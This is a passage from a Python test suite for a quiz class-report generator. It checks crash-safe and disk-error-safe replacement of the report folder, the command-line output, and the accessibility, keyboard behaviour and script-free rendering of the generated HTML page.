    assert sorted(path.name for path in tmp_path.iterdir()) == sorted([*kept, "in", "out"])


def test_folders_beside_it_that_are_named_nearly_as_ours_stay(report, tmp_path):
    names = {".out.mine.part", ".out.\u00b2.part"}  # our own have the number of a process there
    for name in names:
        (tmp_path / name).mkdir()
    report({"a.json": GOOD})
    assert {path.name for path in tmp_path.glob(".out.*")} == names


def test_what_spreadsheets_and_file_managers_leave_stops_nothing(report, tmp_path):
    report({"a.json": GOOD})
    for name in (".DS_Store", ".~lock.guesses.csv#", "~$guesses.csv", "Thumbs.db"):
        write(tmp_path / "out", name, b"")
    report({})
    assert sorted(os.listdir(tmp_path / "out")) == sorted(FILES)


def test_no_folder_and_no_link(tmp_path):
    write(tmp_path, "file", b"")
    for out in (tmp_path / "file", tmp_path / "file" / "out", tmp_path / ("x" * 300)):
        with pytest.raises(ValueError, match="cannot be written"):
            class_report([tmp_path], out)
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "index.html").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(ValueError, match="not of an earlier report"):
        class_report([tmp_path], tmp_path / "out")


def test_the_command(tmp_path, capsys):
    write(tmp_path / "in", "a.json", GOOD)
    assert main(["class", str(tmp_path / "in"), "-o", str(tmp_path / "out")]) == 0
    said = capsys.readouterr()
    assert "1 student, 1 first guess, from 1 file; 0 files left out." in said.out
    assert said.err == ""  # no bar where nobody watches
    assert main(["class", str(tmp_path / "out"), "-o", str(tmp_path / "empty")]) == 1
    assert "does not end in .json" in capsys.readouterr().err and not (tmp_path / "empty").exists()


FILES = ("index.html", "guesses.csv", "left-out.csv")


def in_a_child(work):
    """Do something in a forked process that may die; gives how it ended."""
    child = os.fork()
    if child == 0:
        try:
            work()
        except BaseException:
            os._exit(1)
        os._exit(0)
    return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])


def state(folder: Path) -> dict:
    return {name: (folder / name).read_bytes() for name in sorted(os.listdir(folder))}


@pytest.mark.skipif(not hasattr(os, "fork"), reason="needs fork")
def test_killed_anywhere_it_leaves_the_old_report_or_the_new_and_no_guess(report, tmp_path, monkeypatch):
    """It is killed at its first call to the system, at its second, ... until it lives to the end."""
    (tmp_path / "spill").mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path / "spill"))
    monkeypatch.setenv("SQLITE_TMPDIR", str(tmp_path / "spill"))
    report({"a.json": file_of(guess_of("quiz-rows", 3))})
    old = state(tmp_path / "out")
    write(tmp_path / "in", "b.json", GOOD)
    class_report([tmp_path / "in"], tmp_path / "new")
    new = state(tmp_path / "new")

    def run_and_die(last):
        seen = [0]

        def watch_out(event, arguments):
            if event.split(".")[0] in ("open", "os", "shutil", "sqlite3", "tempfile") and event != "os.listdir":
                seen[0] += 1
                if seen[0] == last:
                    os.kill(os.getpid(), 9)

        sys.addaudithook(watch_out)
        class_report([tmp_path / "in"], tmp_path / "out")

    found, last = [], 0
    while True:
        last += 1
        ended = in_a_child(lambda last=last: run_and_die(last))
        found.append(state(tmp_path / "out"))
        assert found[-1] in (old, new), last
        assert os.listdir(tmp_path / "spill") == []
        if ended == 0:
            break
        assert ended == -9
        shutil.rmtree(tmp_path / "out")
        (tmp_path / "out").mkdir()
        for name, data in old.items():
            (tmp_path / "out" / name).write_bytes(data)
    assert last > 15 and found[-1] == new and old in found
    assert sorted(os.listdir(tmp_path)) == ["in", "new", "out", "spill"]  # what a killed run left is swept by the next


def test_a_full_disk_is_said_in_a_sentence_and_the_report_stays(report, tmp_path):
    made = report({"a.json": GOOD})
    before = state(tmp_path / "out")
    for number in range(40):
        write(tmp_path / "in", f"{number}.json", student_file(number, QUESTIONS))

    def run():
        resource.setrlimit(resource.RLIMIT_FSIZE, (30_000, 30_000))  # a write beyond it fails, as on a full disk
        try:
            class_report([tmp_path / "in"], tmp_path / "out")
        except ValueError as problem:
            said = re.fullmatch(r"The report cannot be written to \S+ \(.*\): nothing .*\.", str(problem))
            os._exit(7 if said else 8)

    assert in_a_child(run) == 7 and state(tmp_path / "out") == before and made.page.exists()
    assert sorted(os.listdir(tmp_path)) == ["in", "out"]


@pytest.mark.parametrize("code", [errno.EROFS, errno.ENOSPC, errno.EACCES])
@pytest.mark.parametrize("call", ["os.rename", "shutil.copyfileobj", "pathlib.Path.mkdir"])
def test_a_disk_that_refuses(report, tmp_path, monkeypatch, call, code):
    report({"a.json": GOOD})
    before = state(tmp_path / "out")

    def refused(*arguments, **options):
        raise OSError(code, os.strerror(code))

    monkeypatch.setattr(whole_folder, "_exchanged", lambda *paths: False)
    monkeypatch.setattr(call, refused)
    with pytest.raises(ValueError, match=os.strerror(code).lower()):
        report({})
    monkeypatch.undo()
    assert state(tmp_path / "out") == before and sorted(os.listdir(tmp_path)) == ["in", "out"]


@pytest.mark.parametrize("which", [1, 2])
def test_a_swap_that_fails_half_way_leaves_the_old_report(report, tmp_path, monkeypatch, which):
    report({"a.json": GOOD})
    before, rename, calls = state(tmp_path / "out"), os.rename, []

    def refused_once(*paths):
        calls.append(paths)
        if len(calls) == which:
            raise OSError(errno.EACCES, os.strerror(errno.EACCES))
        rename(*paths)

    monkeypatch.setattr(whole_folder, "_exchanged", lambda *paths: False)
    monkeypatch.setattr(os, "rename", refused_once)
    with pytest.raises(ValueError, match="permission denied"):
        report({})
    monkeypatch.undo()
    assert state(tmp_path / "out") == before and sorted(os.listdir(tmp_path)) == ["in", "out"]


def test_what_an_entry_does_not_say_did_not_happen():
    question = BY_NAME["quiz-rows"]
    assert fitted(guess_of("quiz-rows", 3), question) == {
        "guess": 3, "second": None, "confidence": "", "skipped": False, "rating": ""}


@pytest.mark.skipif(not hasattr(os, "fork"), reason="needs fork")
@pytest.mark.parametrize("disk", ["has room", "is full"])
def test_killed_between_two_renames_the_old_report_is_found_again(report, tmp_path, monkeypatch, disk):
    monkeypatch.setattr(whole_folder, "_exchanged", lambda *paths: False)
    report({"a.json": GOOD})
    before, rename = state(tmp_path / "out"), os.rename

    def run_and_die():
        monkeypatch.setattr(os, "rename", lambda *paths: (rename(*paths), os.kill(os.getpid(), 9)))
        report({"b.json": file_of(guess_of("quiz-rows", 3))})

    assert in_a_child(run_and_die) == -9 and not (tmp_path / "out").exists()
    if disk == "is full":
        def refused(*arguments):
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

        monkeypatch.setattr(shutil, "copyfileobj", refused)
        with pytest.raises(ValueError, match="no space left"):
            report({"b.json": file_of(guess_of("quiz-rows", 3))})
        assert state(tmp_path / "out") == before
    else:
        assert report({"b.json": file_of(guess_of("quiz-rows", 3))}).students == 2
    assert sorted(os.listdir(tmp_path)) == ["in", "out"]


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="only Linux exchanges two folders in one step")
def test_on_linux_there_is_no_moment_without_a_report(report, tmp_path, monkeypatch):
    """A second report is exchanged for the first: no name is free meanwhile, as it would be between two renames."""
    report({"a.json": GOOD})
    moved = []
    monkeypatch.setattr(os, "rename", lambda *paths: moved.append(paths))
    assert report({"b.json": file_of(guess_of("quiz-rows", 3))}).students == 2
    assert moved == [] and sorted(os.listdir(tmp_path)) == ["in", "out"]


def test_without_a_way_to_exchange_folders(report, tmp_path, monkeypatch):
    monkeypatch.setattr(whole_folder, "_exchanged", lambda *paths: False)
    report({"a.json": GOOD})
    assert report({"b.json": file_of(guess_of("quiz-rows", 3))}).students == 2
    assert sorted(os.listdir(tmp_path)) == ["in", "out"] and sorted(os.listdir(tmp_path / "out")) == sorted(FILES)


# -- the page --------------------------------------------------------------------------------------


@pytest.mark.parametrize("scheme, width", [("light", 1280), ("dark", 1280), ("dark", 360)])
def test_accessible_and_no_wider_than_the_screen(new_context, class_page, scheme, width):
    page = new_context(viewport={"width": width, "height": 900}, color_scheme=scheme).new_page()
    faults = []
    watch(page, faults)
    page.goto(class_page.page.as_uri())
    page.evaluate("document.querySelectorAll('details').forEach(part => { part.open = true })")
    assert page.evaluate("document.documentElement.scrollWidth") == width
    assert violations(page) == [] and faults == []


def test_runs_nothing_and_asks_for_nothing(page, class_page):
    asked, dialogs = [], []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: dialogs.append(dialog.message) or dialog.dismiss())
    page.goto(class_page.page.as_uri())
    assert asked == [class_page.page.as_uri()] and dialogs == []
    assert page.locator("script, img, iframe, object, link, [onerror], [onload]").count() == 0
    assert HURT in page.locator("#questions").text_content()  # as text


def test_what_a_teacher_sees(page, class_page):
    page.goto(class_page.page.as_uri())
    begin = page.locator(".begin:not(.abilities) tbody tr")
    wrong = [int(begin.nth(number).locator("td").first.text_content()) for number in range(begin.count())]
    assert wrong == sorted(wrong, reverse=True) and wrong[0] > 0
    headings = page.locator("article h3").all_text_contents()
    assert [text.split(". ")[0] for text in headings] == [str(number) for number in range(1, len(QUESTIONS) + 1)]
    rows = rows_of(class_page.page.parent / "guesses.csv")
    number = next(number for number, one in enumerate(QUESTIONS, 1) if one.name == "twentieth-step")
    mine = [row for row in rows if row["name"] == "twentieth-step" and row["first_guess"]]
    right = sum(row["right"] == "yes" for row in mine)
    article = page.locator(f"#q{number}")
    assert f"({right} of {len(mine)})" in article.locator(".verdict").text_content()
    marked = article.locator("tbody tr").filter(has_text="✓ answer")
    assert marked.locator("bdi").all_text_contents() == ["much less far"]


def test_hide_the_answers_and_one_question_at_a_time_by_keyboard(page, class_page):
    page.goto(class_page.page.as_uri())
    assert page.locator(".tick").first.is_visible()
    page.get_by_label("Hide the answers").press("Space")
    assert page.locator(".answer:visible").count() == 0 and page.locator(".choices").first.is_visible()
    page.get_by_label("One question at a time").press("Space")
    page.locator(".begin a").first.press("Enter")
    assert page.locator("article:visible").count() == 1 and not page.locator("h2").first.is_visible()
    shown = page.locator("article:visible").get_attribute("id")
    page.locator("article:visible .around a").last.press("Enter")
    assert page.locator("article:visible").get_attribute("id") != shown
    assert violations(page) == []


def test_on_paper(page, class_page):
    page.goto(class_page.page.as_uri())
    page.emulate_media(media="print")
    assert not page.locator(".toggles").is_visible() and page.locator(".choices").first.is_visible()


def test_a_class_that_only_looked(report, page):
    made = report({"a.json": file_of(guess_of("quiz-rows", None, skipped=True))})
    assert (made.students, made.guesses) == (1, 0)
    page.goto(made.page.as_uri())
    assert violations(page) == []
    assert page.get_by_text("No guess was read.").is_visible()


def test_no_share_of_few(report):
    made = report({f"{number}.json": student_file(number, QUESTIONS, share=1) for number in range(4)})
    article = re.sub(r'style="[^"]*"', "", made.html.split("<article")[1])
    assert "too few for advice" in article and not re.search(r"\d%", article)
